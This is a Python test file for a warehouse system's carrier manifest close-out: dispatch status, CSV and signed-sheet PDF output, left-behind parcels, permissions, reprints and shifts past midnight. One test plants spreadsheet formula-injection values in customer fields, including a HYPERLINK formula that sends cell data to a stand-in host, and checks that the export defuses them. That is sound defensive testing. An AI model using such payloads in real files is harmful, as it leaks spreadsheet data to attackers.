"""Close-out: manifests, DISPATCHED orders, the CSV, left-behind parcels, reprints."""

from __future__ import annotations

import csv
from datetime import timedelta
from pathlib import Path

import pytest
from sqlmodel import select

from tests.worlds.dispatch import DAY, Dock, build_dock, packed_parcel
from tests.worlds.factories import store_folder
from wms_tui.domain.enums import ManifestStatus, MovementReason, OrderStatus, ParcelStatus
from wms_tui.domain.errors import Conflict, DomainError, NotFound, PermissionDenied
from wms_tui.domain.models import Event, Location, Manifest, Order, Stock, StockMovement
from wms_tui.services.dispatch import handover, manifest, manifest_preview
from wms_tui.services.inventory.stock import ledger_mismatches
from wms_tui.store import Store

S = OrderStatus


@pytest.fixture
def dock(empty_store: Store, tmp_path: Path) -> Dock:
    return build_dock(empty_store, tmp_path)


def load(dock: Dock, *keys: str, carrier: str = "PN") -> None:
    for k in keys:
        handover.load_parcel(dock.store, dock.packer, carrier, dock.sscc[k])


def test_close_out_dispatches_orders_and_writes_the_csv(dock: Dock) -> None:
    load(dock, "#1", "#2", "#2/2")
    r = manifest.close_manifest(dock.store, dock.boss, "PN")
    assert (r.number, r.parcels, r.orders, r.left_behind) == ("PN-20260310", 3, 2, 0)
    assert r.weight_g == 1250 + 1250 + 1500
    for name in ("#1", "#2"):
        assert dock.order(name).status == S.DISPATCHED
    assert dock.order("#3").status == S.PACKED  # DHL's truck is another one
    for k in ("#1", "#2", "#2/2"):
        assert dock.parcel(dock.sscc[k]).status == ParcelStatus.MANIFESTED
    with dock.store.read() as s:
        m = s.exec(select(Manifest)).one()
        assert (m.status, m.closed_by_id) == (ManifestStatus.CLOSED, dock.boss.operator_id)
        assert m.csv_file == r.csv_file
        evs = s.exec(select(Event).where(Event.to_state == S.DISPATCHED.value)).all()
        assert sorted(e.order_name for e in evs) == ["#1", "#2"]
        assert {(e.operator_name, e.detail) for e in evs} == {
            ("Karin Holmgren", "manifest PN-20260310")
        }
    path = Path(r.csv_file)
    assert path.parent == store_folder(dock.store, dock.labels) / "manifests"
    assert path.name.startswith("manifest_PN-20260310_") and path.suffix == ".csv"
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [(x["order"], x["parcel"], x["of"]) for x in rows] == [
        ("#1", "1", "1"),
        ("#2", "1", "2"),
        ("#2", "2", "2"),
    ]
    assert rows[0]["sscc"] == dock.sscc["#1"] and rows[0]["tracking_number"] == dock.tracking["#1"]
    assert rows[0]["weight_kg"] == "1.250" and rows[0]["ship_name"] == "Åsa Öberg"
    assert rows[0]["loaded_at"] == "2026-03-10 14:00" and rows[0]["loaded_by"] == "Johan Öberg"
    # Shipping confirmations went out with the close-out.
    assert r.notices_written == 2 and r.notices_sent == 0


def test_manifest_csv_writes_customer_text_that_a_spreadsheet_cannot_run(dock: Dock) -> None:
    with dock.store.unit_of_work() as uow:
        o = uow.session.exec(select(Order).where(Order.name == "#1")).one()
        o.ship_company = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
        o.ship_name = "@SUM(A1:A9)"
        o.ship_address1 = "-1+1"
        uow.commit()
    load(dock, "#1")
    r = manifest.close_manifest(dock.store, dock.boss, "PN", leave_behind_ok=True)
    with Path(r.csv_file).open(encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["ship_company"] == '\'=HYPERLINK("http://evil.test/?"&A1,"Click")'
    assert (row["ship_name"], row["ship_address1"]) == ("'@SUM(A1:A9)", "'-1+1")
    assert row["sscc"] == dock.sscc["#1"]  # the rest as it was


def pdf_text(path: Path) -> str:
    import pypdfium2 as pdfium

    pdf = pdfium.PdfDocument(str(path))
    try:
        return "\n".join(page.get_textpage().get_text_range() for page in pdf)
    finally:
        pdf.close()


def test_close_out_writes_the_signed_sheet_pdf(dock: Dock) -> None:
    load(dock, "#1", "#2", "#2/2")
    r = manifest.close_manifest(dock.store, dock.boss, "PN")
    assert r.pdf_file.endswith(".pdf") and r.print_problem == ""
    text = pdf_text(Path(r.pdf_file))
    assert "PN-20260310" in text and "PN Carrier" in text
    for key in ("#1", "#2", "#2/2"):
        assert dock.tracking[key] in text
    assert "#2 2/2" in text
    assert "Received 3 parcels, total 4.000 kg" in text
    assert "Driver".upper() in text and "Signature" in text
    with dock.store.read() as s:
        assert s.exec(select(Manifest)).one().pdf_file == r.pdf_file


def test_close_out_prints_the_sheet_unless_told_not_to(
    dock: Dock, monkeypatch: pytest.MonkeyPatch
) -> None:
    from wms_tui.printing import output

    printed: list[tuple[str, str]] = []
    monkeypatch.setenv("WMS_PRINTER", "Laser")
    monkeypatch.setattr(output, "send_to_printer", lambda p, printer: printed.append((p, printer)))
    load(dock, "#1")
    r = manifest.close_manifest(dock.store, dock.boss, "PN", leave_behind_ok=True, send=False)
    assert printed == [] and r.print_problem == "" and Path(r.pdf_file).is_file()
    load(dock, "#3", carrier="DHL")
    r = manifest.close_manifest(dock.store, dock.boss, "DHL")
    assert printed == [(Path(r.pdf_file), "Laser")]


def test_close_out_ships_the_packed_units_out_of_the_ledger(dock: Dock) -> None:
    load(dock, "#1")
    manifest.close_manifest(dock.store, dock.boss, "PN", leave_behind_ok=True)
    with dock.store.read() as s:
        pack = s.exec(select(Location).where(Location.code == "PACK-1")).one()
        st = s.exec(select(Stock).where(Stock.location_id == pack.id)).one()
        # 4 orders packed 2 units each; #1's two units have left the building.
        assert st.qty == 6
        shipped = s.exec(
            select(StockMovement).where(StockMovement.reason == MovementReason.SHIPPED.value)
        ).one()
        assert (shipped.qty, shipped.to_location_id, shipped.reference) == (
            2,
            None,
            "PN-20260310",
        )
        assert ledger_mismatches(s) == []


def test_packed_but_not_loaded_needs_confirmation_and_stays_for_tomorrow(dock: Dock) -> None:
    load(dock, "#1")
    before = dock.state()
    with pytest.raises(manifest.LeftBehind) as exc:
        manifest.close_manifest(dock.store, dock.boss, "PN")
    assert "2 packed parcels for PN Carrier are not loaded; they stay for tomorrow" in str(
        exc.value
    )
    assert [p.label for p in exc.value.waiting] == ["#2 1/2", "#2 2/2"]
    assert dock.state() == before
    pv = manifest_preview.preview_close(dock.store, "PN")
    assert (len(pv.loaded), len(pv.waiting), pv.problems) == (1, 2, [])

    r = manifest.close_manifest(dock.store, dock.boss, "PN", leave_behind_ok=True)
    assert (r.parcels, r.left_behind) == (1, 2)
    assert dock.order("#2").status == S.PACKED
    assert dock.parcel(dock.sscc["#2"]).status == ParcelStatus.CLOSED
    # Tomorrow they load onto tomorrow's manifest.
    dock.clock.at += timedelta(days=1)
    res = handover.load_parcel(dock.store, dock.packer, "PN", dock.sscc["#2"])
    assert res.manifest_number == "PN-20260311"


def test_closed_manifest_cannot_be_closed_again_or_added_to(dock: Dock) -> None:
    load(dock, "#1", "#2", "#2/2")
    manifest.close_manifest(dock.store, dock.boss, "PN")
    before = dock.state()
    with pytest.raises(Conflict) as exc:
        manifest.close_manifest(dock.store, dock.boss, "PN")
    assert str(exc.value) == (
        "PN Carrier's manifest PN-20260310 was already closed at 14:00 by Karin Holmgren; "
        "reprint it instead"
    )
    assert dock.state() == before
    # A parcel packed after the truck left waits for tomorrow: refused today.
    with dock.store.unit_of_work() as uow:
        from tests.worlds import factories as f

        late = f.order(uow, "#9", [], status=S.PACKED, carrier_id=dock.order("#1").carrier_id)
        code = packed_parcel(uow, late).sscc
        uow.commit()
    before = dock.state()
    with pytest.raises(DomainError, match="manifest PN-20260310 is closed — parcel .* tomorrow"):
        handover.load_parcel(dock.store, dock.packer, "PN", code or "")
    assert dock.state() == before


def test_nothing_loaded_is_refused(dock: Dock) -> None:
    before = dock.state()
    with pytest.raises(DomainError, match="Nothing loaded for DHL Carrier on 10 Mar"):
        manifest.close_manifest(dock.store, dock.boss, "DHL")
    assert dock.state() == before


def test_order_cancelled_after_loading_blocks_close_out_until_taken_out(dock: Dock) -> None:
    load(dock, "#1", "#2", "#2/2")
    from wms_tui.services.core import events

    with dock.store.unit_of_work() as uow:
        from wms_tui.domain.models import Order

        o = uow.session.exec(select(Order).where(Order.name == "#1")).one()
        events.change_status(uow, o, S.CANCELLED, dock.boss)
        uow.commit()
    before = dock.state()
    with pytest.raises(DomainError) as exc:
        manifest.close_manifest(dock.store, dock.boss, "PN")
    assert str(exc.value) == (
        f"Order #1 was cancelled after packing — take parcel {dock.sscc['#1']} out"
    )
    assert dock.state() == before
    handover.take_out(dock.store, dock.packer, "PN", dock.sscc["#1"])
    r = manifest.close_manifest(dock.store, dock.boss, "PN")
    assert (r.parcels, r.orders) == (2, 1)
    assert dock.order("#1").status == S.CANCELLED


def test_a_half_loaded_order_blocks_close_out(dock: Dock) -> None:
    load(dock, "#1", "#2")
    before = dock.state()
    with pytest.raises(DomainError) as exc:
        manifest.close_manifest(dock.store, dock.boss, "PN", leave_behind_ok=True)
    assert str(exc.value) == (
        "Order #2: parcel 2 of 2 is not loaded — load it or take the others out"
    )
    assert dock.state() == before


def test_only_a_supervisor_closes(dock: Dock) -> None:
    load(dock, "#1", "#2", "#2/2")
    before = dock.state()
    with pytest.raises(PermissionDenied, match="Johan Öberg may not close a manifest"):
        manifest.close_manifest(dock.store, dock.packer, "PN")
    assert dock.state() == before


def test_reprint_rewrites_files_from_the_store(dock: Dock) -> None:
    load(dock, "#1", "#2", "#2/2")
    r = manifest.close_manifest(dock.store, dock.boss, "PN")
    original = Path(r.csv_file).read_bytes()
    Path(r.csv_file).unlink()
    rp = manifest.reprint_manifest(dock.store, dock.packer, "pn-20260310")
    assert (rp.number, rp.parcels) == ("PN-20260310", 3)
    assert Path(rp.csv_file).read_bytes() == original
    with dock.store.read() as s:
        assert s.exec(select(Event).where(Event.kind == "manifest.reprinted")).one()


def test_reprint_refusals(dock: Dock) -> None:
    load(dock, "#1")
    with pytest.raises(DomainError, match="Manifest PN-20260310 is still open: close it first"):
        manifest.reprint_manifest(dock.store, dock.boss, "PN-20260310")
    with pytest.raises(NotFound, match="No manifest NOPE-1"):
        manifest.reprint_manifest(dock.store, dock.boss, "nope-1")


def test_list_manifests(dock: Dock) -> None:
    load(dock, "#1")
    load(dock, "#3", carrier="DHL")
    rows = manifest.list_manifests(dock.store, DAY)
    assert [(m.carrier_code, m.status, m.parcels) for m in rows] == [
        ("DHL", "OPEN", 1),
        ("PN", "OPEN", 1),
    ]


def test_a_shift_past_midnight_closes_the_earlier_days_manifest_first(dock: Dock) -> None:
    """Parcels loaded at 23:50 go on that day's manifest, those at 00:10 on the next
    day's. Closing "today's" only left the first ones on an open manifest no screen
    showed; the oldest open one with parcels is closed first, then today's."""
    from datetime import UTC, datetime

    dock.clock.at = datetime(2026, 3, 10, 22, 50, tzinfo=UTC)  # 23:50 in Stockholm
    load(dock, "#1")
    dock.clock.at = datetime(2026, 3, 10, 23, 10, tzinfo=UTC)  # 00:10, 11 March
    load(dock, "#2", "#2/2")
    first = manifest.close_manifest(dock.store, dock.boss, "PN")
    assert (first.number, first.parcels, first.left_behind) == ("PN-20260310", 1, 0)
    assert dock.order("#1").status == S.DISPATCHED and dock.order("#2").status == S.PACKED
    second = manifest.close_manifest(dock.store, dock.boss, "PN")
    assert (second.number, second.parcels) == ("PN-20260311", 2)
    assert dock.order("#2").status == S.DISPATCHED
    with pytest.raises(Conflict, match="PN-20260311 was already closed"):
        manifest.close_manifest(dock.store, dock.boss, "PN")


def test_closing_an_earlier_days_manifest_leaves_parcels_for_todays_truck(dock: Dock) -> None:
    """After midnight the close takes yesterday's manifest first: what is not loaded goes
    on today's truck, not "tomorrow" as the confirmation said."""
    from datetime import UTC, datetime

    dock.clock.at = datetime(2026, 3, 10, 22, 50, tzinfo=UTC)  # 23:50 in Stockholm
    load(dock, "#1")
    dock.clock.at = datetime(2026, 3, 10, 23, 10, tzinfo=UTC)  # 00:10, 11 March
    with pytest.raises(manifest.LeftBehind, match="they stay for today's truck"):
        manifest.close_manifest(dock.store, dock.boss, "PN")
    assert manifest_preview.preview_close(dock.store, "PN").waits_for == "today's truck"
    r = manifest.close_manifest(dock.store, dock.boss, "PN", leave_behind_ok=True)
    assert (r.number, r.left_behind, r.left_for) == ("PN-20260310", 2, "today's truck")
    # On its own day the same close says tomorrow, as before.
    dock.clock.at = datetime(2026, 3, 11, 10, 0, tzinfo=UTC)
    assert manifest_preview.preview_close(dock.store, "PN").waits_for == "tomorrow"
